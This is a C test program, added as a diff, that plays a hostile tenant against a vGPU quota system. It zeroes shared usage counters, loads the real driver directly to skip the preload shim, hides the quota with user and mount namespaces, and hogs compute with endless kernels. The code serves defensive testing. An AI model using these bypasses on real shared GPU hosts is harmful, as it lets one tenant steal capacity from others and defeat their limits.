@@ -1,0 +1,196 @@
+/* A hostile tenant for the vgpu node tests (issue 18): takes more device
+ * memory than its container's limit by a route the in-process library cannot
+ * close, then holds it until stdin closes.
+ *   vgpu-attack region MIB   allocates through the stand-in (libcuda.so.1) in
+ *                            256 MiB steps, zeroing every slot's usage
+ *                            counters in /run/vgpu/shared/vgpu.region before
+ *                            each step (attack 1)
+ *   vgpu-attack driver MIB   dlopens the real driver by its full path under
+ *                            /usr/lib/vgpu/driver and allocates from it (attack 2)
+ *   vgpu-attack ns MIB       attack 4: a user and mount namespace of its own,
+ *                            /etc/ld.so.preload bound over by /dev/null and a
+ *                            tmpfs over /run/vgpu (quota and region hidden), then
+ *                            itself again, without the library, as "driver MIB"
+ *   vgpu-attack honest MIB   allocates through the stand-in, as any program
+ *                            does (the library refuses what passes the limit)
+ *   vgpu-attack compute      dlopens the real driver by its full path and keeps
+ *                            the GPU busy with 2 ms kernels, one after another,
+ *                            for ever (a compute bypass)
+ *   vgpu-attack gpuspin CUBIN  the real driver by its full path; loads CUBIN
+ *                            (test/gpu/spin.cu) and launches its spin kernel,
+ *                            2 ms a launch, for ever (a compute bypass on a GPU)
+ * Prints "held_mib=N" once it holds N MiB; with a third argument LIMIT_MIB,
+ * also "crossed_ns=T" (CLOCK_REALTIME) when its holding first passed LIMIT_MIB. */
+#define _GNU_SOURCE
+#include <dlfcn.h>
+#include <fcntl.h>
+#include <glob.h>
+#include <sched.h>
+#include <sys/mount.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <time.h>
+#include <unistd.h>
+
+typedef int CUresult;
+typedef int CUdevice;
+typedef void *CUcontext;
+typedef unsigned long long CUdeviceptr;
+
+#define MiB (1024ULL * 1024ULL)
+#define STEP (256 * MiB)
+
+static void zero_region(void)
+{
+    int fd = open("/run/vgpu/shared/vgpu.region", O_RDWR);
+    if (fd < 0) return;
+    size_t size = 4096 + 1024 * 256;
+    unsigned char *r = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+    close(fd);
+    if (r == MAP_FAILED) return;
+    for (int i = 0; i < 1024; i++) {
+        unsigned char *s = r + 4096 + i * 256;
+        if (*(volatile unsigned *)s == 1) memset(s + 64, 0, 16 * 8);
+    }
+    munmap(r, size);
+}
+
+int main(int argc, char **argv)
+{
+    if (argc < 3) {
+        fprintf(stderr, "usage: vgpu-attack region|driver MIB\n");
+        return 2;
+    }
+    if (strcmp(argv[1], "ns") == 0) {
+        char map[64];
+        int uid = (int)getuid(), gid = (int)getgid();
+        if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) {
+            perror("unshare");
+            printf("error=unshare\n");
+            return 1;
+        }
+        /* map ourselves when allowed (mapping the parent's root needs
+         * CAP_SETFCAP, which runc's default set lacks): the capabilities in
+         * the new namespace, all we need for the mounts, do not depend on it */
+        int fd = open("/proc/self/setgroups", O_WRONLY);
+        if (fd >= 0) { (void)!write(fd, "deny", 4); close(fd); }
+        snprintf(map, sizeof map, "0 %d 1", uid);
+        if ((fd = open("/proc/self/uid_map", O_WRONLY)) >= 0) { (void)!write(fd, map, strlen(map)); close(fd); }
+        snprintf(map, sizeof map, "0 %d 1", gid);
+        if ((fd = open("/proc/self/gid_map", O_WRONLY)) >= 0) { (void)!write(fd, map, strlen(map)); close(fd); }
+        if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0 ||
+            mount("/dev/null", "/etc/ld.so.preload", NULL, MS_BIND, NULL) != 0 ||
+            mount("tmpfs", "/run/vgpu", "tmpfs", 0, NULL) != 0) {
+            perror("mount");
+            printf("error=mount\n");
+            return 1;
+        }
+        fflush(stdout);
+        execl("/proc/self/exe", argv[0], "driver", argv[2], argc > 3 ? argv[3] : NULL, (char *)NULL);
+        printf("error=exec\n");
+        return 1;
+    }
+    int zero = strcmp(argv[1], "region") == 0;
+    int region = zero || strcmp(argv[1], "honest") == 0, compute = strcmp(argv[1], "compute") == 0;
+    unsigned long long want = strtoull(argv[2], NULL, 10) * MiB;
+    const char *lib = "libcuda.so.1";
+    glob_t g;
+    if (!region) {
+        if (glob("/usr/lib/vgpu/driver/libcuda.so.[0-9]*", 0, NULL, &g) != 0 || g.gl_pathc < 1) {
+            printf("error=no real driver under /usr/lib/vgpu/driver\n");
+            return 1;
+        }
+        lib = g.gl_pathv[0];
+    }
+    void *h = dlopen(lib, RTLD_NOW | RTLD_LOCAL | (region ? 0 : RTLD_DEEPBIND));
+    if (!h) {
+        printf("error=dlopen %s: %s\n", lib, dlerror());
+        return 1;
+    }
+    CUresult (*init)(unsigned) = dlsym(h, "cuInit");
+    CUresult (*devget)(CUdevice *, int) = dlsym(h, "cuDeviceGet");
+    CUresult (*retain)(CUcontext *, CUdevice) = dlsym(h, "cuDevicePrimaryCtxRetain");
+    CUresult (*setcur)(CUcontext) = dlsym(h, "cuCtxSetCurrent");
+    CUresult (*alloc)(CUdeviceptr *, size_t) = dlsym(h, "cuMemAlloc_v2");
+    if (!init || !devget || !retain || !setcur || !alloc) {
+        printf("error=dlsym\n");
+        return 1;
+    }
+    CUdevice d;
+    CUcontext c;
+    CUresult rc;
+    if ((rc = init(0)) || (rc = devget(&d, 0)) || (rc = retain(&c, d)) || (rc = setcur(c))) {
+        printf("error=init %d\n", rc);
+        return 1;
+    }
+    if (strcmp(argv[1], "gpuspin") == 0) {
+        CUresult (*load)(void **, const char *) = dlsym(h, "cuModuleLoad");
+        CUresult (*getf)(void **, void *, const char *) = dlsym(h, "cuModuleGetFunction");
+        CUresult (*launch)(void *, unsigned, unsigned, unsigned, unsigned, unsigned, unsigned, unsigned, void *, void **, void **) =
+            dlsym(h, "cuLaunchKernel");
+        CUresult (*sync)(void) = dlsym(h, "cuCtxSynchronize");
+        void *mod, *fn;
+        if (!load || !getf || !launch || !sync || (rc = load(&mod, argv[2])) || (rc = getf(&fn, mod, "spin"))) {
+            printf("error=module %d\n", rc);
+            return 1;
+        }
+        long long ns = 2000000;
+        void *args[] = {&ns};
+        printf("computing=1\n");
+        fflush(stdout);
+        for (;;) {
+            for (int i = 0; i < 4; i++)
+                if ((rc = launch(fn, 1024, 1, 1, 128, 1, 1, 0, NULL, args, NULL))) {
+                    printf("launch_rc=%d\n", rc);
+                    return 1;
+                }
+            sync();
+        }
+    }
+    if (compute) {
+        CUresult (*load)(void **, const void *) = dlsym(h, "cuModuleLoadData");
+        CUresult (*getf)(void **, void *, const char *) = dlsym(h, "cuModuleGetFunction");
+        CUresult (*launch)(void *, unsigned, unsigned, unsigned, unsigned, unsigned, unsigned, unsigned, void *, void **, void **) =
+            dlsym(h, "cuLaunchKernel");
+        CUresult (*sync)(void) = dlsym(h, "cuCtxSynchronize");
+        void *mod, *fn;
+        if (!load || !getf || !launch || !sync || (rc = load(&mod, "busy_2000us")) || (rc = getf(&fn, mod, "busy_2000us"))) {
+            printf("error=module %d\n", rc);
+            return 1;
+        }
+        printf("computing=1\n");
+        fflush(stdout);
+        for (;;) {
+            for (int i = 0; i < 4; i++)
+                if ((rc = launch(fn, 1, 1, 1, 1, 1, 1, 0, NULL, NULL, NULL))) {
+                    printf("launch_rc=%d\n", rc);
+                    return 1;
+                }
+            sync();
+        }
+    }
+    unsigned long long held = 0, limit = argc > 3 ? strtoull(argv[3], NULL, 10) * MiB : 0, crossed = 0;
+    while (held < want) {
+        CUdeviceptr p;
+        if (zero) zero_region();
+        if ((rc = alloc(&p, STEP)) != 0) {
+            printf("alloc_rc=%d\n", rc);
+            break;
+        }
+        held += STEP;
+        if (limit && !crossed && held > limit) {
+            struct timespec ts;
+            clock_gettime(CLOCK_REALTIME, &ts);
+            crossed = (unsigned long long)ts.tv_sec * 1000000000ULL + (unsigned long long)ts.tv_nsec;
+        }
+    }
+    if (crossed) printf("crossed_ns=%llu\n", crossed);
+    printf("held_mib=%llu\n", held / MiB);
+    fflush(stdout);
+    char ch;
+    while (read(0, &ch, 1) > 0)
+        ;
+    return 0;
+}
